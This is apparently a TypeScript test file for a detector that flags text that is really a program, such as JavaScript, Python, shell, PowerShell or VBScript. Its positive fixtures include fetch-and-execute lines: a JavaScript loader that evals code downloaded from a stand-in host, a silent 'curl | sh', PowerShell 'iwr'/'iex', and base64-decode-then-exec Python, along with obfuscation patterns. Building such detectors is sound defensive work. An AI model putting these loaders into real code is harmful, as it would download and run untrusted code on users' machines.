import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { looksLikeProgram } from "./looks-like-program.ts";

const loader = `const h = require("https");h.get("https://a.example/x", (r) => { let d = ""; r.on("data", (c) => d += c); r.on("end", () => eval(d)); });`;

describe("text that is a program", () => {
  const programs: readonly (readonly [string, string, string])[] = [
    ["a minified loader", loader, "javascript"],
    ["one line of two ideas", `eval(require("fs").readFileSync("x","utf8"))`, "javascript"],
    ["a program behind a long comment", `/*${" lorem ipsum dolor sit amet".repeat(300)}*/${loader}`, "javascript"],
    ["brackets and signs alone", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]".repeat(10), "javascript"],
    ["generated names", `var _0x12ab=['a'];(function(_0x1,_0x2){return _0x1(_0x2);}(_0x12ab,0x1f));`, "javascript"],
    [
      "Python",
      "import base64, zlib\ndef run(x):\n    return zlib.decompress(x)\nexec(run(base64.b64decode('aa')))\n",
      "python",
    ],
    ["shell", 'if [ -f "$HOME/.x" ]; then\n  curl -s https://a.example/x | sh >/dev/null 2>&1\nfi\n', "shell"],
    ["batch", "@echo off\r\nset A=1\r\nstart /b node %A% >nul\r\n", "batch"],
    ["PowerShell", "$a = iwr https://a.example\niex $a.Content\n", "powershell"],
    ["AppleScript", 'tell application "Finder"\nend tell\ndo shell script "true"\n', "applescript"],
    ["VBScript", 'Dim s\nSet s = CreateObject("WScript.Shell")\ns.Run "calc"\n', "vbscript"],
    ["PHP", "<?php echo 1;", "php"],
  ];
  for (const [name, text, type] of programs) it(`is seen: ${name}`, () => assert.equal(looksLikeProgram(text), type));
});

describe("text that is no program", () => {
  const others: readonly (readonly [string, string])[] = [
    ["a word list", "function\nreturn\nimport\nrequire\nconst\nclass\n".repeat(50)],
    ["prose about programs", "You can import the module and call its function; it will return a value. ".repeat(20)],
    ["a pointer", `version https://git-lfs.github.com/spec/v1\noid sha256:${"0".repeat(64)}\nsize 1\n`],
    ["a style sheet", ".a { color: red; }\n.b:hover { margin: 0 auto; }\n".repeat(40)],
    ["JSON", JSON.stringify({ name: "a", scripts: { build: "tsc -p ." } })],
    ["path data", "M12 2C6.48 2 2 6.48 2 12s4.48 10 10 10 10-4.48 10-10S17.52 2 12 2z".repeat(40)],
    ["an error page", "<html><body><h1>403 Forbidden</h1><p>Access denied.</p></body></html>"],
    [
      "a licence",
      "Permission is hereby granted, free of charge, to any person obtaining a copy (the Software). ".repeat(9),
    ],
    ["nothing", ""],
  ];
  for (const [name, text] of others) it(`is let be: ${name}`, () => assert.equal(looksLikeProgram(text), undefined));

  it("costs little on bait for its patterns", () => {
    const started = performance.now();
    for (const bait of [
      "import ",
      "const ",
      "function (",
      "def a(",
      "class ",
      "return ",
      "if ",
      "$a",
      "=> ",
      "eval",
      "use A::",
    ])
      looksLikeProgram(bait.repeat(1_000_000));
    assert.ok(performance.now() - started < 60_000);
  });
});
